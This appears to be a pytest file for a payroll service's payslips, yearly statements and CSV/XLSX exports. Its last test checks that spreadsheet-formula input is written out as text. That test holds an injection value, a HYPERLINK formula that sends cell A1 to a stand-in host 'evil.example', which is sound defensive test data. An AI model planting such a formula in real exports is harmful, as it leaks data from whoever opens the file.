"""What the payroll hands out: payslips per tenure and period, yearly statements, and a period's export for the
group payroll system as CSV and XLSX, amounts as exact decimal strings; every line naming its cause and the
policy version behind it."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

from openpyxl import load_workbook

from services.appraisal_svc.domain.member import member_id
from tests.contract.api.helpers import created
from tests.payroll.api.helpers import account, appraised, pay_group, payslip, revised, run
from tests.payroll.conftest import Services3

COLUMNS = ["period", "tenure_id", "line_id", "kind", "amount", "for_period", "cause", "note", "corrects",
           "policy_version"]
CLAWBACK = {"amount": "1000.00", "reason": "违规发放津贴", "decision_ref": "董事会决议〔2023〕4号", "period": "2023-02"}


async def paid_winter(services: Services3) -> list[dict[str, Any]]:
    """M01 and M02 paid the base of 2022-12, 2023-01 and 2023-02; M01 clawed back 1,000 on 2023-02."""
    members = await pay_group(services, size=2)
    await run(services, members, "2022-12", "2023-01", "2023-02")
    await created(services.payroll.post("/clawbacks", json={"tenure_id": members[0]["tenure_id"], **CLAWBACK}))
    return members


async def export(services: Services3, member: dict[str, Any], period: str, format: str) -> bytes:
    params = {"enterprise_id": member["enterprise_id"], "period": period, "format": format}
    response = await services.payroll.get("/payslips/export", params=params)
    assert response.status_code == 200, response.text
    assert f'filename="payslips-{period}.{format}"' in response.headers["content-disposition"]
    return response.content


async def test_every_payment_line_names_its_cause_and_the_policy_version(services3: Services3) -> None:
    version_2 = {"parameters": {"retention_pct": "10"}, "effective_from": "2021-06-01", "reason": "集团薪酬办法修订"}
    [member] = await pay_group(services3, letters=True, performance_mode="score", revision=version_2)
    await run(services3, [member], "2023-01")
    final = await appraised(services3, [member])
    await revised(services3, final, member, revenue="10500", decided_on="2023-06-01")
    await created(services3.payroll.post("/clawbacks", json={"tenure_id": member["tenure_id"], **CLAWBACK}))
    paid = await account(services3, member)
    causes = {line["kind"]: line["cause"] for line in paid["lines"]}
    assert causes == {"base": {"type": "base_run", "ref": f"base-run:{member['enterprise_id']}:2023-01"},
                      "performance": causes["performance"], "arrears": causes["arrears"],
                      "clawback": {"type": "clawback_decision", "ref": CLAWBACK["decision_ref"]},
                      "owed": {"type": "clawback_decision", "ref": CLAWBACK["decision_ref"]}}  # 2023-02 unpaid yet
    for kind in ("performance", "arrears"):
        assert causes[kind]["type"] == "annual_appraisal"
        # the member's own appraisal stream, whose final result (and its revision) was paid
        assert causes[kind]["ref"].startswith(f"appraisal:{member_id(member['tenure_id'], 2022)}:")
    # version 2 was in force on 2022-03-01, when the tenure began
    assert {line["policy_version"] for line in paid["lines"]} == {paid["policy_version"]} == {2}
    assert all(line["note"] for line in paid["lines"])


async def test_a_payslip_lists_the_period_lines_and_their_total(services3: Services3) -> None:
    m01, m02 = await paid_winter(services3)
    slip = await payslip(services3, m01, "2023-02")
    assert [(line["kind"], line["amount"], line["for_period"]) for line in slip["lines"]] == [
        ("base", "16666.67", "2023-02"), ("clawback", "-1000.00", "2023-02")]
    assert (slip["tenure_id"], slip["period"], slip["total"]) == (m01["tenure_id"], "2023-02", "15666.67")
    assert [line["amount"] for line in (await payslip(services3, m02, "2023-02"))["lines"]] == ["16666.67"]
    assert (await payslip(services3, m01, "2023-03")) == {"tenure_id": m01["tenure_id"], "period": "2023-03",
                                                          "lines": [], "total": "0.00", "owed": "0.00"}


async def test_a_yearly_statement_adds_up_the_year_lines_by_kind(services3: Services3) -> None:
    m01, _ = await paid_winter(services3)
    response = await services3.payroll.get("/statements", params={"tenure_id": m01["tenure_id"], "year": 2023})
    statement = response.json()
    assert [line["period"] for line in statement["lines"]] == ["2023-01", "2023-02", "2023-02"]  # not 2022-12
    assert statement["by_kind"] == {"base": "33333.34", "clawback": "-1000.00"}
    assert (statement["year"], statement["total"]) == (2023, "32333.34")


async def test_a_period_export_in_csv_carries_exact_decimal_amounts(services3: Services3) -> None:
    m01, m02 = await paid_winter(services3)
    rows = list(csv.reader(io.StringIO((await export(services3, m01, "2023-02", "csv")).decode("utf-8-sig"))))
    assert rows[0] == COLUMNS
    table = [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]
    mine = sorted((r["tenure_id"], r["kind"], r["amount"]) for r in table)
    assert mine == sorted([(m01["tenure_id"], "base", "16666.67"), (m01["tenure_id"], "clawback", "-1000.00"),
                           (m02["tenure_id"], "base", "16666.67")])
    assert sum(Decimal(r["amount"]) for r in table) == Decimal("32333.34")
    assert {r["cause"] for r in table if r["kind"] == "clawback"} == {f"clawback_decision:{CLAWBACK['decision_ref']}"}
    assert {(r["period"], r["policy_version"], r["corrects"]) for r in table} == {("2023-02", "1", "")}


async def test_a_period_export_in_xlsx_holds_the_same_rows_with_amounts_as_text(services3: Services3) -> None:
    m01, _ = await paid_winter(services3)
    as_csv = list(csv.reader(io.StringIO((await export(services3, m01, "2023-02", "csv")).decode("utf-8-sig"))))
    sheet = load_workbook(io.BytesIO(await export(services3, m01, "2023-02", "xlsx"))).active
    as_xlsx = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert [["" if cell is None else str(cell) for cell in row] for row in as_xlsx] == as_csv
    amount = COLUMNS.index("amount")
    assert all(isinstance(row[amount], str) for row in as_xlsx[1:])  # text, never a binary float


async def test_an_export_writes_a_reason_that_would_run_as_a_formula_as_text(services3: Services3) -> None:
    [member] = await pay_group(services3)
    await run(services3, [member], "2023-01", "2023-02")
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"查看")'
    body = {**CLAWBACK, "tenure_id": member["tenure_id"], "reason": formula, "decision_ref": "@SUM(1+1)"}
    await created(services3.payroll.post("/clawbacks", json=body))
    rows = list(csv.reader(io.StringIO((await export(services3, member, "2023-02", "csv")).decode("utf-8-sig"))))
    [clawed] = [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:] if row[COLUMNS.index("kind")] == "clawback"]
    assert (clawed["note"], clawed["amount"]) == (f"'{formula}", "-1000.00")  # a recovery stays a figure
    assert clawed["cause"] == "clawback_decision:@SUM(1+1)"  # begins with its type: nothing to run
    sheet = load_workbook(io.BytesIO(await export(services3, member, "2023-02", "xlsx"))).active
    note = sheet.cell(row=3, column=COLUMNS.index("note") + 1)
    assert (note.value, note.data_type) == (formula, "s")
    assert sheet.cell(row=3, column=COLUMNS.index("amount") + 1).value == "-1000.00"
